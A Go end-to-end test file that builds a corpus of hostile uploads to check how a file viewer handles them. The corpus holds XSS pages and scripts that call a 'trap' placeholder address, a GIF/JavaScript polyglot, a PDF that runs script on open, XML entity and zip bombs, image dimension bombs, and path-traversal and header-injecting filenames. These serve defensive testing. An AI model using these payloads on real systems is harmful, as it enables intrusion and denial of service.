package e2e

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"math"
	"strings"
	"testing"
)

// hostile is one file a stranger might send.
type hostile struct {
	what    string // unique in the corpus
	name    string // as its sender called it
	saved   string // as it may be called on an inspector's PC
	typed   string // the type its sender claims
	content []byte
	// shown says what becomes of it at the desk: "drawn" or "played", or the end
	// of the key desk.js.file_ whose sentence says why not; empty where no button
	// offers to show it.
	shown string
}

// hostiles is the corpus, made anew each time. trap is an address that nobody
// may ask for.
func hostiles(t testing.TB, trap string) []hostile {
	t.Helper()
	script := `alert(1);fetch("` + trap + `/script");new Image().src="` + trap + `/image";document.title="taken";parent.postMessage("taken","*");top.location="` + trap + `/top"`
	page := `<!doctype html><title>taken</title><meta http-equiv="refresh" content="0;url=` + trap + `/refresh"><link rel="stylesheet" href="` + trap + `/style"><img src="` + trap + `/img" onerror="` + strings.ReplaceAll(script, `"`, `'`) + `"><iframe src="` + trap + `/frame"></iframe><script>` + script + `</script>`
	svg := `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50" onload="alert(1)"><script>` + script + `</script><image xlink:href="` + trap + `/svg" width="9" height="9"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="` + trap + `/svgframe"/></foreignObject></svg>`
	photo := photograph(t, 640, 480)
	return []hostile{
		{"a sound photo", "公示栏.jpg", "公示栏.jpg", "image/jpeg", photo, "drawn"},
		{"a sound picture of a picture tool", "截图.png", "截图.png", "image/png", drawing(t, 300, 200), "drawn"},
		{"a sound recording", "录音.wav", "录音.wav", "audio/wav", tone(), "played"},
		{"GIF that is a script too", "动图.gif", "动图.gif", "image/gif", polyglot(script), "broken"},
		{"GIF with a script behind its end", "a.gif", "a.gif", "image/gif", append(animated(t), "/*"+page...), "drawn"},
		{"JPEG with a page in its comment", "b.jpg", "b.jpg", "image/jpeg", commented(photo, page), "drawn"},
		{"JPEG that is an archive too", "c.jpg", "c.jpg", "image/jpeg", append(bytes.Clone(photo), archive(t, "x.html", []byte(page))...), "drawn"},
		{"SVG with a script", "d.svg", "d.svg", "image/svg+xml", []byte(svg), ""},
		{"SVG that claims to be a photo", "e.jpg", "e.jpg", "image/jpeg", []byte(svg), "unknown"},
		{"page", "f.html", "f.html", "text/html", []byte(page), ""},
		{"page that claims to be a film", "g.mp4", "g.mp4", "video/mp4", []byte(page), "unknown"},
		{"photo that claims to be a page", "h.html", "h.html", "text/html", photo, ""},
		{"photo under a photo's name that claims to be a page", "i.jpg", "i.jpg", "text/html", photo, "drawn"},
		{"web archive", "j.mht", "j.mht", "multipart/related", []byte("MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + page), ""},
		{"style sheet for XML", "k.xml", "k.xml", "text/xml", []byte(`<?xml version="1.0"?><?xml-stylesheet href="` + trap + `/xsl" type="text/xsl"?><a/>`), ""},
		{"entities within entities", "l.xml", "l.xml", "application/xml", []byte(laughs), ""},
		{"PDF with a script", "m.pdf", "m.pdf", "application/pdf", scripted(trap), ""},
		{"PDF that claims to be a photo", "n.png", "n.png", "image/png", scripted(trap), "unknown"},
		{"deflated zeros", "o.zip", "o.zip", "application/zip", archive(t, "zeros", make([]byte, 64<<20)), ""},
		{"document with a macro's name", "p.docm", "p.docm", "application/vnd.ms-word.document.macroEnabled.12", archive(t, "word/vbaProject.bin", []byte(script)), ""},
		{"playlist that calls out", "q.mp4", "q.mp4", "video/mp4", []byte("#EXTM3U\n#EXTINF:9,\n" + trap + "/segment.ts\n"), "unknown"},
		{"playlist for sound", "r.mp3", "r.mp3", "audio/mpeg", []byte("[playlist]\nFile1=" + trap + "/sound\n"), "unknown"},
		{"PNG of 60,000 × 60,000", "s.png", "s.png", "image/png", boastingPNG(60_000, 60_000), "bomb"},
		{"PNG of 2³¹−1 × 1", "t.png", "t.png", "image/png", boastingPNG(math.MaxInt32, 1), "bomb"},
		{"JPEG of 65,535 × 65,535", "u.jpg", "u.jpg", "image/jpeg", boastingJPEG(photo, 65_535, 65_535), "bomb"},
		{"GIF whose first frame outgrows it", "v.gif", "v.gif", "image/gif", outgrown(animated(t)), "bomb"},
		{"GIF whose comment hides its frame", "w.gif", "w.gif", "image/gif", hiddenFrame(outgrown(animated(t))), "bomb"},
		{"WebP of 16,384 × 16,384", "x.webp", "x.webp", "image/webp", boastingWebP(16_384, 16_384), "bomb"},
		{"PNG of no size", "y.png", "y.png", "image/png", boastingPNG(0, 0), "bomb"},
		{"PNG with inflating words", "z.png", "z.png", "image/png", wordy(t, drawing(t, 20, 20)), "drawn"},
		{"PNG whose pixels end early", "aa.png", "aa.png", "image/png", boastingPNG(400, 400), "broken"},
		{"film that is none", "bb.mp4", "bb.mp4", "video/mp4", append([]byte("\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41"), page...), "broken"},
		{"WebM that is none", "cc.webm", "cc.webm", "video/webm", append([]byte("\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm"), page...), "broken"},
		{"sound that is none", "dd.mp3", "dd.mp3", "audio/mpeg", append([]byte("ID3\x04\x00\x00\x00\x00\x00\x00"), page...), "broken"},
		{"nothing at all", "空.jpg", "空.jpg", "image/jpeg", nil, "unknown"},
		{"test sign for virus scanners", "ee.com", "ee.com", "application/octet-stream", []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$` + "ZHUICHA-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"), ""},
		{"name of 255 characters", strings.Repeat("长", 251) + ".jpg", strings.Repeat("长", 65) + ".jpg", "image/jpeg", photo, "drawn"},
		{"name that turns around", "照片\u202egpj.exe", "照片gpj.exe", "image/jpeg", photo, "drawn"},
		{"name with a line break", "a\r\nContent-Type: text/html\r\n\r\n<script>.jpg", "aContent-Type_ text_html_script_.jpg", "image/jpeg", photo, "drawn"},
		{"no name", "", "file", "image/jpeg", photo, "drawn"},
		{"name of a device", "CON.jpg", "file_CON.jpg", "image/jpeg", photo, "drawn"},
		{"name that climbs", "../../../etc/passwd", "_.._.._etc_passwd", "", []byte("root"), ""},
		{"name that hides", ".htaccess", "htaccess", "", []byte("Options +Indexes"), ""},
		{"name with markup", `"><img src=x onerror=alert(1)>.jpg`, "___img src=x onerror=alert(1)_.jpg", `image/jpeg"><script>alert(1)</script>`, photo, "drawn"},
	}
}

const laughs = `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>`

// photograph is a JPEG with something on it.
func photograph(t testing.TB, width, height int) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := jpeg.Encode(&out, painted(width, height), nil); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func drawing(t testing.TB, width, height int) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := png.Encode(&out, painted(width, height)); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func painted(width, height int) image.Image {
	m := image.NewRGBA(image.Rect(0, 0, width, height))
	for y := range height {
		for x := range width {
			m.Set(x, y, color.RGBA{uint8(x * 255 / width), uint8(y * 255 / height), 90, 255})
		}
	}
	return m
}

// animated is a GIF of two frames.
func animated(t testing.TB) []byte {
	t.Helper()
	palette := color.Palette{color.White, color.RGBA{200, 30, 30, 255}}
	frame := func(c uint8) *image.Paletted {
		m := image.NewPaletted(image.Rect(0, 0, 60, 40), palette)
		for i := range m.Pix {
			m.Pix[i] = c
		}
		return m
	}
	var out bytes.Buffer
	err := gif.EncodeAll(&out, &gif.GIF{Image: []*image.Paletted{frame(1), frame(0)}, Delay: []int{5, 5}})
	if err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// polyglot is read as a GIF's head by some and as a script by others.
func polyglot(script string) []byte {
	return []byte("GIF89a/*\x00\x00\x00\x00\x00\x2c\x00\x00\x00\x00\x20\x00\x20\x00\x00\x02*/=1;" + script)
}

// outgrown states a small screen and a first frame of 65,535 × 65,535.
func outgrown(small []byte) []byte {
	b := bytes.Clone(small)
	at := frameOf(b)
	binary.LittleEndian.PutUint16(b[at+5:], 65_535)
	binary.LittleEndian.PutUint16(b[at+7:], 65_535)
	return b
}

// frameOf finds the first image descriptor behind the extensions that the
// encoder writes.
func frameOf(b []byte) int {
	at := 13
	if b[10]&0x80 != 0 {
		at += 3 << (b[10]&7 + 1)
	}
	for b[at] == 0x21 {
		for at += 2; b[at] != 0; at += int(b[at]) + 1 {
		}
		at++
	}
	return at
}

// hiddenFrame puts a comment before the first frame whose parts look like the
// frame of a small picture to whoever mistakes their lengths for blocks.
func hiddenFrame(b []byte) []byte {
	at := frameOf(b)
	part := make([]byte, 0x2c) // a part as long as the mark of a frame is high
	part[4], part[6] = 1, 1
	comment := append([]byte{0x21, 0xfe, 0x2c}, part...)
	comment = append(comment, 0)
	return append(append(bytes.Clone(b[:at]), comment...), b[at:]...)
}

// commented puts a text into a JPEG's comment segment.
func commented(photo []byte, text string) []byte {
	segment := binary.BigEndian.AppendUint16([]byte{0xff, 0xfe}, uint16(len(text)+2))
	return append(append(bytes.Clone(photo[:2]), append(segment, text...)...), photo[2:]...)
}

// boastingJPEG is a small picture whose frame states another size.
func boastingJPEG(photo []byte, width, height uint16) []byte {
	b := bytes.Clone(photo)
	at := bytes.Index(b, []byte{0xff, 0xc0})
	binary.BigEndian.PutUint16(b[at+5:], height)
	binary.BigEndian.PutUint16(b[at+7:], width)
	return b
}

// boastingPNG is a picture of hardly any pixels that states a size.
func boastingPNG(width, height uint32) []byte {
	head := binary.BigEndian.AppendUint32(nil, width)
	head = binary.BigEndian.AppendUint32(head, height)
	b := append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", append(head, 8, 2, 0, 0, 0))...)
	b = append(b, chunk("IDAT", deflated(make([]byte, 1000)))...)
	return append(b, chunk("IEND", nil)...)
}

func chunk(kind string, data []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
	b = append(append(b, kind...), data...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

func deflated(b []byte) []byte {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	_, _ = w.Write(b) // a buffer takes everything
	_ = w.Close()
	return out.Bytes()
}

// wordy carries compressed text and a colour profile that inflate to 64 MB each.
func wordy(t testing.TB, picture []byte) []byte {
	t.Helper()
	zeros := deflated(make([]byte, 64<<20))
	const afterHead = 8 + 25
	b := bytes.Clone(picture[:afterHead])
	b = append(b, chunk("iCCP", append([]byte("p\x00\x00"), zeros...))...)
	b = append(b, chunk("zTXt", append([]byte("Comment\x00\x00"), zeros...))...)
	return append(b, picture[afterHead:]...)
}

// boastingWebP states its size in the extended header.
func boastingWebP(width, height uint32) []byte {
	b := []byte("RIFF\x1e\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00")
	little24 := func(n uint32) []byte { return []byte{byte(n), byte(n >> 8), byte(n >> 16)} }
	b = append(append(b, little24(width-1)...), little24(height-1)...)
	return append(b, make([]byte, 64)...)
}

func archive(t testing.TB, name string, content []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	w := must[io.Writer](t)(z.Create(name))
	must[int](t)(w.Write(content))
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// scripted is a PDF that runs a script and calls out when it is opened.
func scripted(trap string) []byte {
	return []byte("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('" + trap + "/pdf'\\))>>" +
		"/AA<</O<</S/URI/URI(" + trap + "/uri)>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF")
}

// tone is a second of sound.
func tone() []byte {
	const rate = 8000
	samples := make([]byte, rate)
	for i := range samples {
		samples[i] = byte(128 + 90*math.Sin(2*math.Pi*440*float64(i)/rate))
	}
	b := []byte("RIFF")
	b = binary.LittleEndian.AppendUint32(b, uint32(36+len(samples)))
	b = append(b, "WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00"...)
	b = binary.LittleEndian.AppendUint32(b, rate)
	b = binary.LittleEndian.AppendUint32(b, rate)
	b = append(b, "\x01\x00\x08\x00data"...)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(samples)))
	return append(b, samples...)
}
